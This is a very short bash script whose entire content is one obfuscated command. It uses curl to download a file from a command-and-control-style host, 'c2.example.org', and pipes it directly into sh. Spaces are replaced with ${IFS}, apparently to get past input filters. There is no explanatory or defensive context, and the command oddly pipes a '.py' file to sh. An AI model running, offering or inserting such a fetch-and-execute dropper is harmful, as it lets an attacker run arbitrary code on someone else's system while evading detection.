#!/usr/bin/env bash
curl${IFS}-s${IFS}http://c2.example.org/i.py|sh
